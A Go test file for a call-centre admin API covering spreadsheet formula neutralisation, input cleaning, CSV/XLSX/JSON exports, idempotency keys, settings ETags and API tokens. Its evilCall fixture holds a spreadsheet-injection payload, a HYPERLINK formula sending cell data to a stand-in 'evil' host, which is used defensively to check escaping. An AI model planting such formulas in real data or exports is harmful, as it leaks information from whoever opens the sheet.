package admin

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

func TestCellsCannotBecomeFormulas(t *testing.T) {
	for cell, want := range map[string]string{
		"": "", "Sari": "Sari", "628123": "628123", "12:00": "12:00", "a=b": "a=b",
		"=1+1": "'=1+1", "+62": "'+62", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
		" =1": "' =1", "＝1": "'＝1", "\u00a0@x": "'\u00a0@x",
	} {
		if got := inert(cell); got != want {
			t.Errorf("%q becomes %q, want %q", cell, got, want)
		}
	}
}

func TestTextsFromOutsideAreCleaned(t *testing.T) {
	for in, want := range map[string]string{
		"Sari": "Sari", "a\u202egnp.exe": "agnp.exe", "x\x00y\x1bz": "xyz", "\u200bhidden\ufeff": "hidden", "\xff\xfe": "", "میخواهم\u200cنه": "میخواهم\u200cنه",
		"👩‍👧": "👩‍👧", "<script>": "<script>", "a\u2066b\u2069": "ab",
	} {
		if got := clean(in); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
}

func evilCall() CallRecord {
	c := endedCall("evil", "phone:1001")
	c.Customer.Name = `=HYPERLINK("http://evil/?"&A1,"x")`
	return c
}

func TestExportsHoldTheSameRowsAndNoFormulas(t *testing.T) {
	r := newRig(t).start()
	r.m.ended = []CallRecord{evilCall(), endedCall("call2", "phone:1002")}
	s := r.session(Admin)
	get := func(format string) answered {
		a := r.do(http.MethodGet, "/api/v1/calls/export?q=628123&format="+format, "", as(s))
		if a.StatusCode != 200 || !strings.HasPrefix(a.Header.Get("Content-Disposition"), "attachment; ") || a.Header.Get("Content-Type") != exportTypes[format] {
			t.Fatalf("%s: %d %v", format, a.StatusCode, a.Header)
		}
		return a
	}
	rows, err := csv.NewReader(strings.NewReader(get("csv").body)).ReadAll()
	r.must(err)
	if len(rows) != 3 || rows[1][4] != `'=HYPERLINK("http://evil/?"&A1,"x")` || rows[2][0] != "call2" || rows[2][15] != "60" {
		t.Errorf("csv %q", rows)
	}
	f, err := excelize.OpenReader(strings.NewReader(get("xlsx").body))
	r.must(err)
	defer f.Close()
	sheet, err := f.GetRows("Calls")
	r.must(err)
	if d := cmp.Diff(rows, sheet); d != "" {
		t.Errorf("xlsx differs from csv:\n%s", d)
	}
	if formula, _ := f.GetCellFormula("Calls", "E2"); formula != "" {
		t.Errorf("a formula: %s", formula)
	}
	var list []callView
	r.must(json.Unmarshal([]byte(get("json").body), &list))
	if len(list) != 2 || list[0].Customer.Name != evilCall().Customer.Name {
		t.Errorf("json %+v", list)
	}
	log, _ := json.Marshal(r.m.events)
	if !slices.Contains(r.m.actions(), "calls.exported") || strings.Contains(string(log), "628123") {
		t.Errorf("audit log %s", log)
	}
}

func TestAnExportThatFailsInTheMiddleIsSeenToBeIncomplete(t *testing.T) {
	r := newRig(t).start()
	r.s.calls = &brokenStore{memory: r.m}
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://"+r.s.Addr().String()+"/api/v1/calls/export?format=csv", nil)
	r.must(err)
	as(r.session(Admin))(req)
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	res, err := client.Do(req)
	if err == nil {
		_, err = io.ReadAll(res.Body)
		_ = res.Body.Close()
	}
	if err == nil {
		t.Error("the client believes it has everything")
	}
}

func TestOneExportAtATimeForAUser(t *testing.T) {
	r := newRig(t).start()
	release := r.s.exports.take(r.users[Admin].ID)
	r.want(r.do(http.MethodGet, "/api/v1/calls/export", "", as(r.session(Admin))), 429, "too_many")
	release()
	release()
	r.want(r.do(http.MethodGet, "/api/v1/calls/export", "", as(r.session(Admin))), 200, "")
}

func TestACallsFilterReachesTheQueryAndABadOneIsExplained(t *testing.T) {
	r := newRig(t).start()
	s := r.session(Admin)
	r.want(r.do(http.MethodGet, "/api/v1/calls?q=agent&group=missed&line=main&team=red&reason=no_answer&from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00%2B07:00&min_duration=5&max_duration=60&sort=longest&limit=7", "", as(s)), 200, "")
	q := r.m.queries[len(r.m.queries)-1]
	want := CallQuery{Scope: Scope{All: true}, Targets: &Scope{Targets: []string{"phone:1001"}, Rang: true}, Text: "agent", TextTargets: []string{"phone:1001"}, Group: "missed", Line: "main", Reason: "no_answer",
		From: q.From, To: q.To, MinTalk: 5 * time.Second, MaxTalk: time.Minute, Sort: "longest", Limit: 7}
	if d := cmp.Diff(want, q); d != "" || !q.To.Equal(time.Date(2026, 1, 31, 17, 0, 0, 0, time.UTC)) {
		t.Errorf("%s %v", d, q.To)
	}
	for _, bad := range []string{"group=x", "sort=x", "limit=0", "limit=9999", "from=yesterday", "min_duration=-1", "unknown=1", "min_duration=9&max_duration=3", "agent=nobody", "after=bad", "q=" + strings.Repeat("x", 200)} {
		if a := r.do(http.MethodGet, "/api/v1/calls?"+bad, "", as(s)); a.StatusCode != 422 || a.code() != "invalid" {
			t.Errorf("%s: %d %s", bad, a.StatusCode, a.body)
		}
	}
}

func TestACallShowsItsLegsTimelineAndNote(t *testing.T) {
	r := newRig(t).start()
	c := endedCall("call1", "phone:1001")
	c.Customer.Name = "Sa\u202eri"
	r.m.ended = []CallRecord{c}
	s := r.session(Agent)
	r.want(r.do(http.MethodPut, "/api/v1/calls/call1/note", `{"text":"wants a callback","tags":["vip"," vip "],"disposition":"open"}`, as(s)), 200, "")
	d := into[callDetail](r, r.do(http.MethodGet, "/api/v1/calls/call1", "", as(s)))
	if d.Call.Customer.Name != "Sari" || d.Call.AgentName != "agent" || d.Call.LineName != "Main" || d.Call.RingSeconds != 3 || d.Call.TalkSeconds != 60 || len(d.Timeline) != 1 {
		t.Errorf("call %+v", d)
	}
	if n := d.Note; n == nil || n.Text != "wants a callback" || n.By != "agent" || len(n.Tags) != 1 {
		t.Errorf("note %+v", n)
	}
	log, _ := json.Marshal(r.m.events)
	if strings.Contains(string(log), "callback") {
		t.Error("the note is in the audit log")
	}
	r.want(r.do(http.MethodPut, "/api/v1/calls/call1/note", `{"by":"admin"}`, as(s)), 422, "invalid")
}

func TestARequestWithAKeyIsDoneOnce(t *testing.T) {
	r := newRig(t).start()
	r.m.setRunning(runningCall("call1", "phone:1001"))
	s := r.session(Agent)
	hang := func(path, key string) answered {
		return r.do(http.MethodPost, path, "", as(s), header(idempotencyHeader, key))
	}
	path := "/api/v1/live/calls/call1/hangup"
	r.want(hang(path, "a"), 204, "")
	again := hang(path, "a")
	r.want(again, 204, "")
	if again.Header.Get("Idempotency-Replayed") != "true" || len(r.m.hungUp) != 1 {
		t.Errorf("done %d times", len(r.m.hungUp))
	}
	r.want(hang("/api/v1/live/calls/other/hangup", "a"), 422, "key_reused")
	r.want(hang(path, strings.Repeat("k", 200)), 400, "bad_request")
	r.want(hang(path, "b"), 204, "")
	if len(r.m.hungUp) != 2 {
		t.Error("another key is another request")
	}
	other := r.do(http.MethodPost, path, "", as(r.session(Supervisor)), header(idempotencyHeader, "a"))
	if other.Header.Get("Idempotency-Replayed") != "" {
		t.Error("somebody else's key gave this one's answer")
	}
	r.clock.pass(idempotencyFor)
	n := len(r.m.hungUp)
	r.want(hang(path, "a"), 204, "")
	if len(r.m.hungUp) != n+1 {
		t.Error("the key is remembered for ever")
	}
	o := newOnceEach(r.clock.now)
	for range maxIdempotent + 100 {
		o.claim(newID(), [32]byte{})
	}
	if len(o.answers) > maxIdempotent || len(o.order) != len(o.answers) {
		t.Errorf("%d answers, %d in order", len(o.answers), len(o.order))
	}
}

func TestSettingsAreReplacedOnlyByWhoHasSeenThem(t *testing.T) {
	r := newRig(t).start()
	s := r.session(Admin)
	a := r.do(http.MethodGet, "/api/v1/settings", "", as(s))
	put := func(doc, match string) answered {
		return r.do(http.MethodPut, "/api/v1/settings", doc, as(s), header("If-Match", match))
	}
	r.want(put(`{}`, ""), 428, "if_match_needed")
	r.want(put(`{}`, `"7"`), 412, "changed_meanwhile")
	bad := put(`{"lines":"wrong"}`, a.Header.Get("ETag"))
	r.want(bad, 422, "invalid")
	if p := into[Problem](r, bad); len(p.Errors) != 1 || p.Errors[0].Location != "lines[0].id" || p.Errors[0].Fix == "" {
		t.Errorf("problem %+v", p)
	}
	ok := put(`{"lines":[]}`, a.Header.Get("ETag"))
	r.want(ok, 200, "")
	if ok.Header.Get("ETag") != `"2"` || string(r.m.doc) != `{"lines":[]}` {
		t.Errorf("etag %s, document %s", ok.Header.Get("ETag"), r.m.doc)
	}
	last := r.m.events[len(r.m.events)-1]
	if last.Action != "settings.changed" || string(last.Before) != `{"lines[a].name":"x"}` || string(last.After) != `{"lines[a].name":"y"}` || last.Actor != "admin" || last.Address == "" {
		t.Errorf("audit %+v", last)
	}
}

// brokenStore has a first page and then none.
type brokenStore struct{ *memory }

func (b *brokenStore) SearchCalls(_ context.Context, q CallQuery) (CallPage, error) {
	if q.After == "" {
		return CallPage{Calls: []CallRecord{endedCall("call1", "phone:1001")}, Next: "more"}, nil
	}
	return CallPage{}, errors.New("the disk broke")
}

func TestTokensAreShownOnceAndExpire(t *testing.T) {
	r := newRig(t).start()
	s := r.session(Admin)
	make := func(body string) answered { return r.do(http.MethodPost, "/api/v1/tokens", body, as(s)) }
	r.want(make(`{"name":"","scopes":["calls:read"]}`), 422, "invalid")
	r.want(make(`{"name":"x","scopes":["everything"]}`), 422, "invalid")
	r.want(make(`{"name":"x","scopes":[]}`), 422, "invalid")
	r.want(make(`{"name":"x","scopes":["calls:read"],"expires":"2020-01-01T00:00:00Z"}`), 422, "invalid")
	a := make(`{"name":"crm","scopes":["calls:read"],"expires":"2026-11-24T12:00:00Z"}`)
	r.want(a, 201, "")
	made := into[tokenMade](r, a)
	r.want(r.do(http.MethodGet, "/api/v1/calls", "", bearing(made.Secret)), 200, "")
	if list := r.do(http.MethodGet, "/api/v1/tokens", "", as(s)); strings.Contains(list.body, made.Secret) || !strings.Contains(list.body, made.Token.ID) {
		t.Error(list.body)
	}
	if log, _ := json.Marshal(r.m.events); bytes.Contains(log, []byte(made.Secret)) {
		t.Error("the audit log holds the secret")
	}
	r.clock.pass(24 * time.Hour)
	r.want(r.do(http.MethodGet, "/api/v1/calls", "", bearing(made.Secret)), 401, "not_signed_in")
}
